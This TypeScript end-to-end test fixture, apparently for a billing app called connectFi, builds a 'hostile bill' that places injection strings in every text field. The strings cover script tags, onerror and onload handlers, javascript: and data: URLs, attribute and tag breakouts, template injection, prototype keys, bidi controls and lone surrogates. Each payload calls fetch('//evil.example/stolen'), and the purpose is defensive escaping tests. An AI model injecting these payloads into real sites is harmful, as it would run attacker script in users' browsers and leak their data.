import type { BillRequest } from '#e2e/sandbox/bill-request.ts';

/** Sets a mark that the journeys look for, and calls a host that they do not know. */
const RUN = "window.intruded=1;fetch('//evil.example/stolen')";

/** Texts that would be code, or something else than themselves, somewhere on the way to the screen. */
export const SPELLINGS = {
  'a script': `<script>${RUN}</script>`,
  'a picture': `<img src=x onerror="${RUN}">`,
  'the end of an attribute': `"><svg onload="${RUN}">`,
  'the end of another': `' autofocus onfocus='${RUN}' x='`,
  'an address of a script': `javascript:${RUN}`,
  'an address with a document': `data:text/html,<script>${RUN}</script>`,
  'the end of a script': `</script><script>${RUN}</script>`,
  'the end of a style': '</style><style>*{background:url(//evil.example/x)}</style>',
  'the end of everything': `</title></textarea></noscript></template><img src=x onerror="${RUN}">`,
  'a comment': `--><script>${RUN}</script><!--<script>`,
  'the end of a string': `\u2028\u2029\\"]);${RUN}//\\u003cscript\\u003e`,
  'references to signs': `&lt;script&gt;${RUN}&lt;/script&gt;&#x3c;img&#32;src=x&#x3e;`,
  'places of messages': '{merchant} {amount} {payer} {nobody} {constructor} {__proto__}',
  'places of others': `{{constructor.constructor("${RUN}")()}} $\{${RUN}} <%= 1 %> $& $1 $\` %s`,
  'another direction': '\u202Egnihton\u202C \u2066isolated \u2067 \u200F\u061C right',
  'half a sign': 'half \uD83D a sign \uDE00',
} as const;

/** All of them in one text. */
export const ALL_SPELLINGS = Object.values(SPELLINGS).join(' ');

/** Where the bill below has its texts, each told apart by its end. */
export const PLACES = {
  merchant: '#merchant',
  street: '#street',
  city: '#city',
  state: '#state',
  zip: '#zip',
  payer: '#payer',
  invoice: '#invoice',
  description: '#description',
  label: '#label',
  value: '#value',
  file: '#file',
} as const;

/** A bill with that text in every field that connectFi has for texts. */
export function makeHostileBill(text: string): BillRequest {
  const at = (place: keyof typeof PLACES) => `${text} ${PLACES[place]}`;
  return {
    merchant: {
      reference: text,
      name: at('merchant'),
      address: at('street'),
      city: at('city'),
      stateCode: at('state'),
      postalCode: at('zip'),
      phone: text,
      // Without blanks and angles it passes for an address.
      email: `${text.replace(/[\s<>?&@]/g, '')}@evil.example`,
    },
    payerName: at('payer'),
    invoiceNumber: at('invoice'),
    description: at('description'),
    fields: [{ index: 0, code: text, label: at('label'), value: at('value') }],
    attachments: [{ fileName: at('file') }],
  };
}

/** The text as a screen shows it: what turns the direction is left out, and half a sign is a whole one. */
export function toShown(text: string): string {
  return text.replace(/\p{Cs}/gu, '\ufffd').replace(/[\u202a-\u202e\u2066-\u2069]/g, '');
}
